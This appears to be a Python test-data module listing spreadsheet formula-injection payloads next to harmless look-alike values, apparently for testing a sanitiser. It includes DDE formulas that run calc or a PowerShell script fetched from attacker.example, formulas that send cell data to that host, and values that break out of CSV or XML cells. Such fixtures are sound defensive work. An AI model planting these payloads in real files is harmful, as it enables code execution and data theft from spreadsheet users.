"""What people have put into spreadsheets to make them run something, and harmless look-alikes."""

COMMANDS = [
    "=1+1", "=SUM(A1:A9)", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget attacker.example/x.ps1)'!A0",
    "=HYPERLINK(\"http://attacker.example?x=\"&A1,\"Click\")", "=IMPORTXML(CONCAT(\"http://attacker.example/\",A1),\"//a\")",
    "=IMPORTDATA(\"http://attacker.example\")", "=WEBSERVICE(\"http://attacker.example/?\"&A1)",
    "=IMAGE(\"http://attacker.example/x.png\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=FILTERXML(WEBSERVICE(\"http://attacker.example\"),\"//a\")",
    "=INDIRECT(\"A1\")",
    "=EXEC(\"calc\")", "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "={1,2}", "==1+1", "= 1+1", "=A1&B1",
]  # fmt: skip
SIGNS = [
    "+1+1", "+SUM(A1)", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!D2", "-SUM(A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1", "@IMPORTDATA(\"x\")", "+@SUM(1)", "-@SUM(1)", "+-1", "-+1", "+'x'!A1", "-'x'!A1", "--1", "++1",
    "@@", "+=1", "-=1",
]  # fmt: skip
BEHIND = ["\t", "\r", "\n", "\r\n", " ", "\u00a0", "\u3000", "\ufeff", "\u200b", "\v", "\f", "\t\t", " \t", "\u2060"]
BEHIND_BLANKS = [blank + formula for blank in BEHIND for formula in ("=1+1", "+cmd|' /C calc'!A0", "@SUM(1)")]
FULL_WIDTH = ["\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\uff1dcmd|' /C calc'!A0"]
BREAKING_OUT = [
    "x\",=1+1", "x\";=1+1", "x,=1+1", "x;=1+1", "x\n=1+1", "x\r\n=cmd|' /C calc'!A0", "\"=1+1\"", "\",\"=1+1",
    "x\t=1+1",
    "'=1+1", "''=1+1", "</t></is></c><c><f>1+1</f></c>", "<f>SUM(1)</f>", "]]><f>1</f>", "&#61;1+1", "_x003D_1+1",
    "_x000D_=1", "\x00=1+1", "\x1b=1+1", "\ud800=1+1", "{=SUM(1)}", "http://attacker.example", "file:///etc/passwd",
    "internal:A1", "mailto:a@attacker.example", "ftp://attacker.example", "external:c:\\x.xlsx",
]  # fmt: skip
NUMBERS = [
    "-",
    "--",
    "+",
    "=",
    "@",
    "-5",
    "+8613800000000",
    "0012",
    "1e5",
    "00123456789012345678",
    "-1,5",
    "+49 30 1",
    "１２",
]

PAYLOADS = [*COMMANDS, *SIGNS, *BEHIND_BLANKS, *FULL_WIDTH, *BREAKING_OUT, *NUMBERS]
